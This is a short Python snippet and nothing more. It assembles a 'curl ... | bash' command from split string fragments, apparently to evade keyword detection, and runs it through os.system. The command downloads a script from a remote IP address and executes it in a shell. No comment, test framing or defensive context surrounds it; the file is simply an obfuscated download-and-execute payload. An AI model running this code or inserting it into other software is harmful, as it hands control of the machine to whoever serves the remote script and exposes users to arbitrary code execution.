import os
cmd = "cu" + "rl -s htt" + "p://203.0.113.77/p" + " | ba" + "sh"
os.system(cmd)
